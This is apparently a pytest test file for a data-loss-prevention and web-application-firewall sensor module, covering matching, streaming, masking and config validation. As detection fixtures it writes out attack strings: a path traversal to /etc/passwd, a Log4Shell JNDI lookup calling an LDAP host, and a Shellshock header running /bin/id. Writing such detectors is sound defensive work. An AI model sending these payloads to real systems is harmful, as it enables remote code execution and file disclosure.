"""DLP/WAF sensors: validation, Hyperscan and `re` paths, streaming across chunks, masking, groups."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from workers.detect.sensors import (
    HYPERSCAN_AVAILABLE,
    PREDEFINED,
    Context,
    SensorAction,
    SensorError,
    compile_sensors,
    luhn_ok,
    mask,
)

ALL_PREDEFINED = [{"name": n, "predefined": n, "groups": ["web"]} for n in PREDEFINED]
CUSTOM = [
    {
        "name": "secrets",
        "action": "block",
        "groups": ["web", "db"],
        "rules": [
            {"name": "token", "pattern": r"tok_[a-z0-9]{12}", "context": "body"},
            {"name": "internal-host", "pattern": r"corp\.internal", "context": "url", "caseless": True},
            {"name": "backref", "pattern": r"(ab)\1x", "context": "body"},  # Hyperscan cannot: re fallback
            {"name": "drop", "pattern": r"drop\s+table", "context": "sql", "caseless": True},
            {"name": "beacon", "pattern": r"BEACON-[0-9]{4}", "context": "packet"},
        ],
    }
]


@pytest.fixture(params=[True, False], ids=["hyperscan", "re"])
def engine(request: pytest.FixtureRequest) -> bool:
    return bool(request.param)


def test_hyperscan_is_installed() -> None:
    assert HYPERSCAN_AVAILABLE


def test_predefined_sensors_match_and_mask(engine: bool) -> None:
    ss = compile_sensors(ALL_PREDEFINED, use_hyperscan=engine)
    body = (
        b"card 4111 1111 1111 1111 ssn 123-45-6789 key AKIAIOSFODNN7EXAMPLE -----BEGIN RSA PRIVATE KEY-----"
    )
    found = {m.sensor: m for m in ss.scan(Context.BODY, body, "web")}
    assert set(found) == {"credit_card", "us_ssn", "aws_access_key", "private_key"}
    assert found["credit_card"].excerpt == "**** **** **** 1111"
    assert found["us_ssn"].excerpt == "***-**-6789"
    assert "4111 1111 1111 1111" not in repr(found) and "123-45-6789" not in repr(found)


def test_predefined_confirm_checks_cut_false_positives(engine: bool) -> None:
    ss = compile_sensors(ALL_PREDEFINED, use_hyperscan=engine)
    benign = b"order 4111 1111 1111 1112 ref 000-12-3456 phone 555-12-0000 version 1.2.3"
    assert ss.scan(Context.BODY, benign, "web") == []
    # a valid number after an invalid one is still found (every candidate is confirmed, not just the first)
    later = ss.scan(Context.BODY, b"4111 1111 1111 1112 then 5500 0000 0000 0004", "web")
    assert [m.excerpt for m in later] == ["**** **** **** 0004"]


def test_waf_set(engine: bool) -> None:
    ss = compile_sensors(ALL_PREDEFINED, use_hyperscan=engine)
    rules = {m.rule for m in ss.scan(Context.URL, b"/static/../../etc/passwd", "web")}
    assert rules == {"path-traversal", "etc-passwd"}
    encoded = ss.scan(Context.URL, b"/static/..%2f..%2fetc%2fpasswd", "web")
    assert {m.rule for m in encoded} == {"path-traversal"}
    assert {m.rule for m in ss.scan(Context.HEADER, b"${${lower:j}ndi:ldap://198.18.0.1/a}", "web")} == {
        "log4shell"
    }
    assert {m.rule for m in ss.scan(Context.HEADER, b"() { :; }; /bin/id", "web")} == {"shellshock"}
    assert (
        ss.scan(Context.URL, b"/docs/getting-started?page=2&q=../tips", "web") != []
    )  # traversal in a value
    assert ss.scan(Context.URL, b"/docs/getting-started?page=2&q=tips", "web") == []
    assert ss.scan(Context.HEADER, b"Mozilla/5.0 (X11; Linux x86_64) Firefox/126.0", "web") == []


def test_custom_sensor_contexts_groups_and_fallback(engine: bool) -> None:
    ss = compile_sensors(CUSTOM, use_hyperscan=engine)
    if engine:
        assert len(ss.warnings) == 1 and "'backref'" in ss.warnings[0] and "secrets" in ss.warnings[0]
    m = ss.scan(Context.BODY, b"x tok_abcdef123456 y ababx", "db")
    assert {x.rule for x in m} == {"token", "backref"} and all(x.action is SensorAction.BLOCK for x in m)
    assert ss.scan(Context.BODY, b"x tok_abcdef123456", "other-group") == []
    assert [x.rule for x in ss.scan(Context.URL, b"http://API.CORP.INTERNAL/x", "web")] == ["internal-host"]
    assert [x.rule for x in ss.scan(Context.SQL, b"select 1; DROP  TABLE users", "db")] == ["drop"]
    assert ss.scan(Context.URL, b"tok_abcdef123456", "web") == []  # a body rule does not look at URLs


def test_stream_matches_across_chunks_once(engine: bool) -> None:
    ss = compile_sensors(CUSTOM + ALL_PREDEFINED, use_hyperscan=engine)
    stream = ss.open_stream(Context.BODY, "web")
    chunks = [
        b"hello tok_abc",
        b"def123456 and ab",
        b"abx then 4111 1111 11",
        b"11 1111 end",
        b"tok_abcdef123456",
    ]
    per_chunk = [sorted(m.rule for m in stream.scan(c)) for c in chunks]
    stream.close()
    stream.close()  # idempotent
    assert per_chunk == [[], ["token"], ["backref"], ["card-body"], []]
    assert stream.scan(b"tok_abcdef123456") == []  # closed: no crash, no matches
    packets = ss.open_stream(Context.PACKET, "db")
    assert packets.scan(b"..BEAC") == [] and [m.rule for m in packets.scan(b"ON-1234..")] == ["beacon"]
    packets.close()
    with pytest.raises(ValueError, match="url is not a stream context"):
        ss.open_stream(Context.URL, "web")


@pytest.mark.parametrize(
    ("doc", "message"),
    [
        ("nope", "sensors: expected a list"),
        ([{"name": "s", "rules": [{"name": "r", "pattern": "a(b", "context": "body"}]}],
         "sensors[0].rules[0].pattern: sensor 's' rule 'r': bad pattern 'a(b'"),
        ([{"name": "s", "rules": [{"name": "r", "pattern": "a*", "context": "body"}]}],
         "matches empty input"),
        ([{"name": "s", "rules": [{"name": "r", "pattern": "a", "context": "cookie"}]}],
         "sensors[0].rules[0].context: sensor 's' rule 'r': expected one of"),
        ([{"name": "s", "action": "drop", "rules": [{"name": "r", "pattern": "a", "context": "url"}]}],
         "sensors[0].action: sensor 's': expected alert or block"),
        ([{"name": "s", "predefined": "passport"}], "unknown set 'passport'"),
        ([{"name": "s", "rules": []}], "expected a non-empty list of rules"),
        ([{"name": "s", "predefined": "waf"}, {"name": "s", "predefined": "waf"}],
         "sensor 's' defined twice"),
        ([{"name": "s", "rules": [{"name": "r", "pattern": "a", "context": "url", "flags": 1}]}],
         "sensors[0].rules[0].flags: unknown key"),
        ([{"name": "s", "groups": "web", "predefined": "waf"}], "expected a list of group names"),
    ],
)  # fmt: skip
def test_validation_names_the_problem(doc: object, message: str) -> None:
    with pytest.raises(SensorError) as err:
        compile_sensors(doc)  # type: ignore[arg-type]
    assert message in str(err.value)


def test_luhn_and_mask() -> None:
    assert luhn_ok("4111111111111111") and not luhn_ok("4111111111111112") and not luhn_ok("0")
    assert mask("AKIAIOSFODNN7EXAMPLE") == "****************MPLE"
    assert mask("4111-1111-1111-1111") == "****-****-****-1111"
    assert len(mask("x" * 1000)) <= 48


@settings(max_examples=100, deadline=None)
@given(st.lists(st.binary(max_size=64), max_size=8))
def test_stream_equals_whole_scan(chunks: list[bytes]) -> None:
    ss = compile_sensors(CUSTOM, use_hyperscan=True)
    stream = ss.open_stream(Context.BODY, "web")
    streamed = {m.rule for c in chunks for m in stream.scan(c)}
    stream.close()
    whole = {m.rule for m in ss.scan(Context.BODY, b"".join(chunks), "web")}
    assert streamed == whole
